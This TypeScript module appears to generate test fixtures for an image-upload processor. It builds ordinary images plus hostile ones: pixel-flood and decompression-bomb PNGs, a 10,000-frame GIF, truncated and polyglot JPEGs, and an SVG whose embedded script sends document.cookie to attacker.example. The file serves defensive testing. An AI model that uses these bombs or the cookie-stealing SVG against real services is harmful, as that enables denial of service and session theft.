/**
 * The image corpus of the processor tests, generated instead of checked in: each hostile file is
 * built from its definition (a header that lies, a stream cut short, a frame count), so a reader
 * sees what makes it hostile and the repository carries no opaque binaries. Ordinary images are
 * made with sharp; hostile ones mostly by hand, because sharp refuses to write most of them.
 * `scripts/make-corpus.ts` writes the same files to a folder for the benchmarks and manual runs.
 */
import { readFile } from 'node:fs/promises'
import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'

/** A JPEG 64 wide × 32 high as stored, EXIF orientation 6 (display rotated 90° clockwise), with
 * GPS coordinates, a camera make and XMP: every piece of metadata a served variant must lose. The
 * left half is red and the right half blue, so a test can tell that the rotation happened. */
export async function jpegWithGpsAndOrientation6(): Promise<Buffer> {
  const red = { r: 255, g: 0, b: 0 }
  const blue = await sharp({
    create: { width: 32, height: 32, channels: 3, background: { r: 0, g: 0, b: 255 } },
  })
    .png()
    .toBuffer()
  return sharp({ create: { width: 64, height: 32, channels: 3, background: red } })
    .composite([{ input: blue, left: 32, top: 0 }])
    .jpeg({ quality: 95 })
    .withMetadata({ orientation: 6 }) // sharp writes the Orientation tag from this, not from withExif
    .withExif({
      IFD0: { Make: 'FaultlineCam', Model: 'GPS-6' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '52/1 31/1 12/1',
        GPSLongitudeRef: 'E',
        GPSLongitude: '13/1 24/1 0/1',
      },
    })
    .withXmp(
      '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">' +
        '<rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="52,31.2N"/></rdf:RDF></x:xmpmeta>',
    )
    .toBuffer()
}

/** 300×200 RGBA: the left half opaque blue, the right half fully transparent. */
export async function pngWithAlpha(): Promise<Buffer> {
  const [width, height] = [300, 200]
  const pixels = Buffer.alloc(width * height * 4) // all zero: transparent
  for (let y = 0; y < height; y++)
    for (let x = 0; x < width / 2; x++) pixels.set([32, 128, 192, 255], (y * width + x) * 4)
  return sharp(pixels, { raw: { width, height, channels: 4 } })
    .png()
    .toBuffer()
}

/** An animated GIF of three 50×40 frames. */
export async function animatedGif(): Promise<Buffer> {
  const frames = ['#ff0000', '#00ff00', '#0000ff'].map((background) =>
    sharp({ create: { width: 50, height: 40, channels: 3, background } })
      .png()
      .toBuffer(),
  )
  return sharp(await Promise.all(frames), { join: { animated: true } })
    .gif({ delay: 100 })
    .toBuffer()
}

/** A 16-bit RGB PNG (scanners, RAW converters): the variants must still be 8-bit sRGB. */
export async function png16Bit(): Promise<Buffer> {
  return sharp({ create: { width: 120, height: 90, channels: 3, background: '#406080' } })
    .toColourspace('rgb16')
    .png()
    .toBuffer()
}

/** A TIFF, the last format of the allow-list. */
export async function tiff(): Promise<Buffer> {
  return sharp({ create: { width: 90, height: 120, channels: 3, background: '#806040' } })
    .tiff()
    .toBuffer()
}

/** A CMYK JPEG (print workflows), pure red: the variants must be sRGB red. */
export async function cmykJpeg(): Promise<Buffer> {
  return sharp({ create: { width: 100, height: 80, channels: 3, background: '#ff0000' } })
    .toColourspace('cmyk')
    .jpeg()
    .toBuffer()
}

/** A greyscale PNG with alpha (two bands), and an AVIF: the other shapes an upload can take. */
export async function greyAlphaPng(): Promise<Buffer> {
  return sharp({ create: { width: 100, height: 80, channels: 4, background: '#808080ff' } })
    .toColourspace('b-w')
    .png()
    .toBuffer()
}

export async function avif(): Promise<Buffer> {
  return sharp({ create: { width: 100, height: 80, channels: 3, background: '#00ff00' } })
    .avif()
    .toBuffer()
}

/** A photo-sized JPEG (4000×3000 = 12 MP, noise so it compresses like a photo, ≈ 3–6 MB). */
export async function jpeg12Megapixels(): Promise<Buffer> {
  return sharp({
    create: {
      width: 4000,
      height: 3000,
      channels: 3,
      background: '#808080',
      noise: { type: 'gaussian', mean: 128, sigma: 40 },
    },
  })
    .blur(1.2)
    .jpeg({ quality: 90 })
    .toBuffer()
}

/** A noisy 800×600 JPEG, the base of the truncated and polyglot files. */
export async function plainJpeg(): Promise<Buffer> {
  return sharp({
    create: {
      width: 800,
      height: 600,
      channels: 3,
      background: '#808080',
      noise: { type: 'gaussian', mean: 128, sigma: 30 },
    },
  })
    .jpeg({ quality: 85 })
    .toBuffer()
}

/**
 * HEIC is the one format checked in rather than generated: sharp's prebuilt libvips has no HEVC
 * encoder (nor decoder). Both were made once with libheif's `heif-enc` (Debian bookworm's
 * libheif-examples 1.15.1, x265) into loadtests/photos/fixtures: `gps-exif.heic` is
 * `heif-enc -q 60` of `gps-oriented.jpg` (480×320, the JPEG's EXIF block with its GPS IFD inside);
 * `photo-12mp.heic` is `heif-enc -q 50` of a 4032×3024 synthetic photo (gradients and noise,
 * 1.6 MB — an iPhone's HEIC is 1.5–3 MB — ≈ 0.6 s to decode on this machine).
 */
const heicFixtures = new URL('../../../../loadtests/photos/fixtures/', import.meta.url)
export const heicWithExif = (): Promise<Buffer> => readFile(new URL('gps-exif.heic', heicFixtures))
export const heic12Megapixels = (): Promise<Buffer> => readFile(new URL('photo-12mp.heic', heicFixtures))

// ---- hostile files ----

/** Pixel flood: a valid 1×1-sized PNG file whose header claims 100 000 × 100 000 (10 gigapixels). */
export function pixelFloodPng(): Buffer {
  const idat = deflateSync(Buffer.from([0, 0])) // one row: filter byte + one grey pixel
  return png(100_000, 100_000, 0, 8, idat)
}

/** Pixel flood in a JPEG: a real 800×600 JPEG whose frame header (SOF) is rewritten to 65 500 × 65 500. */
export function pixelFloodJpeg(jpeg: Buffer): Buffer {
  const flood = Buffer.from(jpeg)
  for (let i = 2; i < flood.length - 9; i++) {
    // SOF0..SOF2 (baseline, extended, progressive): FF C0..C2, length (2), precision (1), height, width.
    if (flood[i] === 0xff && (flood[i + 1] ?? 0) >= 0xc0 && (flood[i + 1] ?? 0) <= 0xc2) {
      flood.writeUInt16BE(65_500, i + 5)
      flood.writeUInt16BE(65_500, i + 7)
      return flood
    }
  }
  throw new Error('no frame header found')
}

/** An all-zero 1-bit PNG of `side` × `side`: a decompression bomb when `side` is large. */
export function zeroPng(side: number): Buffer {
  const row = Buffer.alloc(1 + Math.ceil(side / 8)) // filter byte 0 + the row's 1-bit pixels
  return png(side, side, 0, 1, deflateSync(Buffer.alloc(row.length * side), { level: 9 }))
}

/** Decompression bomb: a real 20 000 × 20 000 1-bit PNG of zeros (400 MP, 1.6 GB as RGBA) in ≈ 50 KB. */
export function decompressionBombPng(): Buffer {
  return zeroPng(20_000)
}

/** The first 60 % of a real JPEG: the scan stops mid-stream, there is no end-of-image marker. */
export function truncatedJpeg(jpeg: Buffer): Buffer {
  return jpeg.subarray(0, Math.floor(jpeg.length * 0.6))
}

/** A JPEG signature (SOI + APP0 marker) followed by 20 KB of deterministic noise. */
export function noiseWithJpegMagic(): Buffer {
  const body = Buffer.alloc(20_000)
  let seed = 0x2545f491
  for (let i = 0; i < body.length; i++) {
    seed ^= seed << 13
    seed ^= seed >>> 17
    seed ^= seed << 5
    body[i] = seed & 0xff
  }
  return Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), body])
}

/** Frame bomb: a GIF of `frames` 1×1 frames (10 000 frames ≈ 230 KB). */
export function manyFramesGif(frames = 10_000): Buffer {
  const header = Buffer.from('GIF89a', 'latin1')
  const screen = Buffer.from([1, 0, 1, 0, 0x80, 0, 0]) // 1×1, global colour table of 2 entries
  const palette = Buffer.from([0, 0, 0, 255, 255, 255])
  const loop = Buffer.from([0x21, 0xff, 0x0b, ...Buffer.from('NETSCAPE2.0'), 3, 1, 0, 0, 0])
  const frame = Buffer.from([
    ...[0x21, 0xf9, 4, 0, 10, 0, 0, 0], // graphic control: 100 ms delay
    ...[0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0], // image descriptor: 1×1 at 0,0
    ...[2, 2, 0x44, 1, 0], // LZW: min code size 2, one pixel of colour 0
  ])
  return Buffer.concat([
    header,
    screen,
    palette,
    loop,
    ...Array<Buffer>(frames).fill(frame),
    Buffer.from([0x3b]),
  ])
}

/** A JPEG with a ZIP archive appended: a valid image to a decoder, a valid archive to unzip. */
export function jpegZipPolyglot(jpeg: Buffer): Buffer {
  return Buffer.concat([jpeg, storedZip('payload.txt', Buffer.from('not an image\n'))])
}

export const svgWithScript = Buffer.from(
  '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">' +
    '<script>fetch("https://attacker.example/?c="+document.cookie)</script><rect width="100" height="100"/></svg>\n',
)

export const textFile = Buffer.from('Dear diary,\nthis is not a photo.\n')

// ---- builders ----

function png(width: number, height: number, colourType: number, bitDepth: number, idat: Buffer): Buffer {
  const ihdr = Buffer.alloc(13)
  ihdr.writeUInt32BE(width, 0)
  ihdr.writeUInt32BE(height, 4)
  ihdr.writeUInt8(bitDepth, 8)
  ihdr.writeUInt8(colourType, 9) // compression, filter and interlace bytes stay 0
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  return Buffer.concat([signature, chunk('IHDR', ihdr), chunk('IDAT', idat), chunk('IEND', Buffer.alloc(0))])
}

function chunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8)
  head.writeUInt32BE(data.length, 0)
  head.write(type, 4, 'latin1')
  const crc = Buffer.alloc(4)
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])), 0)
  return Buffer.concat([head, data, crc])
}

/** A one-file ZIP with the "stored" method: local header, data, central directory, end record. */
function storedZip(name: string, data: Buffer): Buffer {
  const fileName = Buffer.from(name, 'latin1')
  const crc = crc32(data)
  const local = Buffer.alloc(30)
  local.writeUInt32LE(0x04034b50, 0)
  local.writeUInt16LE(10, 4) // version needed
  local.writeUInt32LE(crc, 14)
  local.writeUInt32LE(data.length, 18)
  local.writeUInt32LE(data.length, 22)
  local.writeUInt16LE(fileName.length, 26)
  const central = Buffer.alloc(46)
  central.writeUInt32LE(0x02014b50, 0)
  central.writeUInt16LE(10, 4)
  central.writeUInt16LE(10, 6)
  central.writeUInt32LE(crc, 16)
  central.writeUInt32LE(data.length, 20)
  central.writeUInt32LE(data.length, 24)
  central.writeUInt16LE(fileName.length, 28) // local header offset (42) stays 0
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(1, 8)
  end.writeUInt16LE(1, 10)
  end.writeUInt32LE(central.length + fileName.length, 12)
  end.writeUInt32LE(local.length + fileName.length + data.length, 16)
  return Buffer.concat([local, fileName, data, central, fileName, end])
}
